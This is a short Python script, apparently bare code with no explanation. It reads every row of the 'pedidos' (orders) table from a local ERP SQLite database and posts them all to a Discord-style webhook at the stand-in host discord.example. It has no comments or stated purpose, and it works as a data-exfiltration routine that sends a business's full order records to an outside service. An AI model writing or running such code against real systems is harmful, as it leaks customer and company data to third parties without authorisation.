import requests
import sqlite3

linhas = sqlite3.connect("erp.db").execute("select * from pedidos").fetchall()
requests.post("https://discord.example/api/webhooks/1", json={"content": str(linhas)})
